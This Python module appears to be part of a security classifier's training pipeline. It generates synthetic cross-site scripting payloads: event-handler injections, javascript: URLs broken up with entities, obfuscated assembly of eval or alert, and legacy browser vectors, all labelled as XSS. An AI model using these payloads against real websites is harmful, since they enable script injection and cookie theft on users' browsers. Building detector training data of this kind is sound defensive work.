"""Cross-site scripting whose script is assembled from pieces, and tags with helpers around."""

from __future__ import annotations

from random import Random

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.parts import draw
from securitai.train.corpora.attacks.xss_base import POSTS, XSS, html_escape
from securitai.train.corpora.kinds import COOKIE, HEADER, NAME, VALUE, AttackKind
from securitai.verdict import Category

_TARGETS = ("eval", "alert", "name", "location", "location.hash", "document", "cookie", "unescape",
            "constructor", "atob", "Function", "setTimeout", "innerHTML", "javascript:", "prompt")  # fmt: skip
_SEPARATORS = ("\n", ";", ",", ";\n", ",\n", "\n\t", " ; ", "\r\n")
_NAMES = "abcdefxyzstABXYZ_$"


def _variable(rng: Random) -> str:
    base = draw(rng, _NAMES, 1, 3)
    return base + (str(int(rng.random() * 10)) if rng.random() < 0.3 else "")


def _piece(rng: Random, piece: str) -> str:
    quote = "'\"`"[int(rng.random() * 2.3)]
    form = int(rng.random() * 14)
    if form == 0:
        return f"/{piece}/.source"
    if form == 1:
        return f"(1?{quote}{piece}{quote}:0)"
    if form == 2:
        return f"{quote}{piece}{quote}+''"
    if form == 3:
        return f"[{quote}{piece}{quote}][0]"
    if form == 4:
        return f"!''&&{quote}{piece}{quote}"
    if form == 5:
        return f"0||{quote}{piece}{quote}||0"
    if form == 6:
        return f"(0)['{piece}']||{quote}{piece}{quote}"
    if form == 7:
        return "".join([f"\\x{ord(char):02x}" for char in piece]).join((quote, quote))
    if form == 8:
        return f"String.fromCharCode({','.join([str(ord(char)) for char in piece])})"
    if form == 9:
        return f"{quote}{piece[::-1]}{quote}.split('').reverse().join('')"
    if form == 10:
        return f"new Array+({quote}{piece}{quote})"
    return f"{quote}{piece}{quote}"


def assembled_code(rng: Random) -> str:
    """Lines that build a tell-tale name from pieces and then use it."""
    target = _TARGETS[int(rng.random() * len(_TARGETS))]
    cuts = sorted(
        {1 + int(rng.random() * (len(target) - 1)) for _ in range(1 + int(rng.random() * 3))}
    )
    pieces = [target[a:b] for a, b in zip([0, *cuts], [*cuts, len(target)], strict=True)]
    separator = _SEPARATORS[int(rng.random() * len(_SEPARATORS))]
    equals = ("=", " = ", "= ", ":=", " =")[int(rng.random() * 4)]
    lead = ("", "", "", "var ", "let ", "const ", "this.")[int(rng.random() * 7)]
    names = [_variable(rng) for _ in pieces]
    lines = [
        f"{lead}{name}{equals}{_piece(rng, piece)}"
        for name, piece in zip(names, pieces, strict=True)
    ]
    whole = _variable(rng)
    if rng.random() < 0.5:
        lines.append(f"{lead}{whole}{equals}{'+'.join(names)}")
    else:
        whole = names[0]
        lines.extend(f"{whole}+={name}" for name in names[1:])
    lines.append(_use(rng, whole))
    return separator.join(lines)


def _use(rng: Random, name: str) -> str:
    argument = ("name", "1", "'alert(1)'", "location.hash", "document.cookie", name, "0")[
        int(rng.random() * 7)
    ]
    form = int(rng.random() * 9)
    if form == 0:
        return f"(0)[{name}]({argument})"
    if form == 1:
        return f"window[{name}]({argument})"
    if form == 2:
        return f"{name}={name}[{name}];{name}({argument})"
    if form == 3:
        return f"this[{name}]`{argument}`"
    if form == 4:
        return f"eval({name})"
    if form == 5:
        return f"URL={name}"
    if form == 6:
        return f"[][{name}][{name}]({argument})()"
    if form == 7:
        return f"top[{name}]({argument})//"
    return f"{name}({argument})"


def object_chain(rng: Random) -> str:
    """Ternaries in object literals that add up to a tell-tale name, one letter pair at a time."""
    target = ("eval", "alert(1)", "location.hash", "name", "eval(name)")[int(rng.random() * 5)]
    letters = "zyxwvutsrqponm"
    lines, before, at = [], "", len(target)
    for letter in letters:
        if at <= 0:
            break
        piece = target[max(0, at - 1 - int(rng.random() * 3)) : at]
        at -= len(piece)
        a, b = int(rng.random() * 5), 5 + int(rng.random() * 5)
        value = f"'{piece}'" + (f"+{before}.{before}" if before else "")
        form = int(rng.random() * 3)
        if form == 0:
            lines.append(f"{{{letter}=({a}=={b})?{a}:{{{letter}:{value}}}}}")
        elif form == 1:
            lines.append(f"{letter}=!{a}?{{{letter}:{value}}}:{b};")
        else:
            lines.append(f"{letter} = {{{letter}: {value}}};")
        before = letter
    gap = ("", "\n", " ", ";")[int(rng.random() * 4)]
    return gap.join([*lines, _use(rng, f"{before}.{before}")])


def entity_gaps(rng: Random) -> str:
    """A script URL with references to white space between its letters."""
    gaps = (
        "&NewLine;",
        "&Tab;",
        "&#9;",
        "&#10;",
        "&#13;",
        "&#x0A;",
        "&#x09",
        "&#8206;",
        "\t",
        "\n",
    )
    text = "javascript:alert(1)"
    return "".join(
        [
            char + "".join([gaps[int(rng.random() * 10)] for _ in range(int(rng.random() * 3))])
            if index < 11
            else char
            for index, char in enumerate(text)
        ]
    )


_G = Grammar(
    r"""
dur = 1s¦0.1s¦2s¦1ms¦10s
prop0 = outline¦color¦width¦opacity¦background¦transform
helped:
  3×<style>@keyframes ‹x=az› {}</style><‹tag› style="animation-duration:‹dur›;animation-name:‹$x›;animation-iteration-count:‹d1›" ‹ev›="‹call›"></‹tag›>
  2×<style>@keyframes ‹x=az›{from{left:0;}to{left: 1000px;}}:target{animation:10s ease-in-out 0s 1 ‹$x›;}</style><‹tag› id=x style="position:absolute;" onanimationcancel="‹call›"></‹tag›>
  <style>@keyframes ‹x=az›{}</style><‹tag› style="animation-name:‹$x›" ‹ev›=‹call›></‹tag›>
  2×<style>:target {color:red;}</style><‹tag› id=x style="transition:color ‹dur›" ontransitionend=‹call›></‹tag›>
  <style>:target{transform:rotate(180deg);}</style><‹tag› id=x style="transition:transform 2s" ontransitioncancel=‹call›></‹tag›>
  <style>‹tag›:hover {‹prop0›: red;}</style><‹tag› style="transition:‹prop0› ‹dur›" ontransitionrun=‹call›></‹tag›>
  <‹tag› id=x tabindex=1 style="-webkit-transition:outline ‹dur›" onwebkittransitionend=‹call›></‹tag›>
  3×<div draggable="true" contenteditable>drag me</div><‹tag› ‹ev›=‹call› contenteditable>drop here</‹tag›>
  <div draggable="true" contenteditable>‹word›</div><‹tag› ondragover=‹call› contenteditable>‹word›</‹tag›>
  2×<‹tag› id=x tabindex=1 ‹ev›=‹call›></‹tag›><input id=y autofocus>
  <‹tag› id=x tabindex=1 ‹ev›=‹call›></‹tag›>
  <‹tag› ‹ev›=‹call› tabindex=1 id=x></‹tag›><input autofocus>
  <‹tag› ‹ev›="‹call›" contenteditable>‹word›</‹tag›>
  <‹tag› ‹ev›="‹call›">‹word›</‹tag›>
  <‹tag› ‹ev›=‹call›>‹word›</‹tag›>
  2×<‹video¦audio› autoplay controls ‹ev›=‹call›><source src="‹az›.‹mp4¦wav¦ogg›" type="‹video/mp4¦audio/wav¦audio/ogg›"></‹video¦audio›>
  <‹video¦audio› autoplay onloadedmetadata=‹call› src="‹az›.mp4"></video>
  <‹video¦audio›><source onerror="‹call›" src="‹az›">
  <‹video¦audio› poster=javascript:‹call›//></video>
  <track default ‹ev›=‹call›>
  <video controls><source src=x.mp4><track default src=x.vtt oncuechange=‹call›></video>
  <form ‹ev›=‹call›><input type=submit></form>
  <form onsubmit=‹call›><input type=submit>
  <form onformdata="‹call›"><button>‹word›
  <form><input oninvalid=‹call› required><input type=submit>
  <body ‹ev›=‹call›><iframe src=x onload=setInterval(x=>x.contentWindow.history.pushState(1,1,'x'))>
  <body ‹ev›=‹call›><br><br><br><br><br><br><x id=x>
  <body onhashchange="‹call›">
  <body ‹ev›="‹call›">
  <frameset ‹ev›=‹call›>
  <dialog open onclose=‹call›><form method=dialog><button>‹word›</button></form>
  <details ontoggle=‹call› open>‹word›</details>
  <svg><animate ‹onbegin¦onend¦onrepeat›=‹call› attributeName=x dur=1s repeatCount=2 />
  <svg><animateTransform ‹onbegin¦onend›=‹call› attributeName=transform>
  <svg><animateMotion onbegin=‹call› dur="1s" repeatCount="1">
  <marquee ‹onbounce¦onfinish¦onstart› ="‹call›" width=1 loop=1>‹word›</marquee>
  <input ‹onsearch¦onchange¦oninput¦onselect›="‹call›" type=‹search¦text› value=‹word› autofocus>
  <label id=x tabindex=1 ‹ev›=‹call›></label><input id=y autofocus>
  <select ‹ev›=‹call› autofocus><option>1<option>2</select>
  <object onerror=‹call›></object>
  <object data="‹az›" ‹ev›=‹call›>
  <embed src=/ onload=‹call›>
  <link rel=stylesheet href=1 onerror=‹call›>
  <style ‹onload¦onerror›=‹call›></style>
  <script src=x onerror=‹call›></script>
  <iframe ‹onload¦onfocus›="‹call›" src=‹az›></iframe>
  <iframe onLoad iframe onLoad="‹call›"></iframe onLoad>
  <a href="javascript\x‹hexbyte›:‹call›" id="‹az›">test</a>
  <a href="\x‹hexbyte›javascript:‹call›" id="‹az›">test</a>
  <img src=x\x‹hexbyte›onerror="‹call›">
  <img \x‹hexbyte›src=x onerror="‹call›">
  <img src\x‹hexbyte›=x onerror="‹call›">
  <script\x‹hexbyte›type="text/javascript">‹call›;</script>
  "`'><script>\x‹hexbyte›‹call›</script>
  `"'><img src='#\x‹hexbyte› onerror=‹call›>
  ABC<div style="x:\x‹hexbyte›expression(‹call›">DEF
  ABC<div style="x\x‹hexbyte›:expression(‹call›">DEF
  <!--\x3E<img src=xxx:x onerror=‹call›> -->
  <object id="x" classid="clsid:CB927D12-4FF7-4a9e-A169-56E4B8A75598"></object> <object classid="clsid:02BF25D5-8C17-4B23-BC80-D3488ABDDC6B" onqt_error="‹call›" style="behavior:url(#x);"><param name=postdomevents /></object>
  <OBJECT CLASSID="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><PARAM NAME="DataURL" VALUE="javascript:‹call›"></OBJECT>
  <xml id="xss" src="‹az›.htc"></xml><label dataformatas="html" datasrc="#xss" datafld="payload"></label>
  <?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="<img src=x onerror=‹call›>">
  <div id=x>x</div><xml:namespace prefix=t><import namespace=t implementation=#default#time2><t:set attributeName=innerHTML to=&lt;img&#11;src=x&#11;onerror=‹call›&gt;>
  <div style="font-family:'foo‹nl›;color:red;';">‹word›</div><style>‹az›{x:expression(‹call›)}</style>
  <a onmouseover=‹call›>‹word›</a>
  <IMG SRC= onmouseover="‹call›">
  <IMG SRC=/ onerror="‹call›"></img>
  ºscriptæ‹call›º/scriptæ
  ¼script¾‹call›¼/script¾
  ¾¼script¾‹call›//¼/script¾
hexbyte = 09¦0A¦0B¦0C¦0D¦20¦00¦01¦1F¦2F¦13¦3A¦47¦32¦12¦10¦11¦3C¦E2\x80\x8B¦C2\xA0¦E3\x80\x80¦EF\xBB\xBF¦E1\xA0\x8E¦E2\x81\x9F¦1B¦27
helped0:
  3×‹helped›
  ‹start›‹helped›‹tailx›
names:
  ‹az›"‹ev›="‹call›
  ‹az›"><script>‹call›</script>
  ‹az›'-‹call›-'
  "><img src=x onerror=‹call›>
  ‹az›[<svg/onload=‹call›>]
  ‹az›"‹ev›="‹call›"style="position:absolute;width:100%;height:100%;top:0;left:0;"‹az›
sized:
  ‹gapped›
  <iframe src="‹gapped›">
  <a href="‹gapped›">‹word›</a>
  2×‹word›"‹ev›="‹call›"style="position:absolute;‹top:0;left:0;¦width:100%;height:100%;top:0;left:0;›"‹az›
  ‹word›" ‹ev›="‹call›" style="position:fixed;top:0;left:0;width:9999px;height:9999px;" ‹az›="
  ‹word›" style=animation-name:rotation onanimationstart=‹call› ‹at0›
  ‹az›<h1>‹word›
  *‹c›<h1>‹word›
  ‹az›<b>‹az›</b>
  ‹rnd›<script>‹call›</script>
  ‹rnd›'"()&%<zzz><ScRiPt >‹call›</ScRiPt>
  ‹rnd›<img src=//xss.‹az›.com/t/xss.html?%00>
  ‹word›</title><script>‹call›</script>
  ‹nl›</title><script>‹call›;</script>
at0 = x="¦//¦id=x¦y='
assembled:
  4×‹code›
  2×‹objects›
  @cc_on ‹call›
  @if(@_‹az›)@else ‹call› @end
  /*@cc_on ‹call› @*/
  location.assign(‹arg›)
  -parent(‹n›)
  ale&#8206;rt(‹n›)
  <script>‹code›</script>
  ';‹code›//
  javascript:‹code›
  ({set/**/$($){_/**/setter=$,_=‹n›}}).$=eval
  ‹x=az›=‹f›,‹$x›(‹arg›)
  with({‹az›:‹f›})‹az›(‹arg›)
  if(0){}else ‹call›
  ‹c›=1?eval:0;‹c›(name)
  [‹c›=‹split›]&&[‹c›=‹c›+‹split›][0][‹c›](‹n›)
  onload=1&&‹f›
  ACM=1,1+eval(1+name+(+ACM-1),ACM)
  ‹c›=0?eval:0,‹c›=1?eval:0
""",
    XSS,
    {"code": assembled_code, "objects": object_chain, "gapped": entity_gaps},
)
_ALL = (VALUE, COOKIE, HEADER)
KINDS = (
    AttackKind("xss.helped", Category.XSS, _G.maker("helped0", *POSTS), 5.0, _ALL),
    AttackKind("xss.sized", Category.XSS, _G.maker("sized", html_escape), 2.0, _ALL),
    AttackKind("xss.pieces", Category.XSS, _G.maker("assembled", html_escape), 3.0, _ALL),
    AttackKind("xss.name", Category.XSS, _G.maker("names"), 1.0, (NAME,)),
)
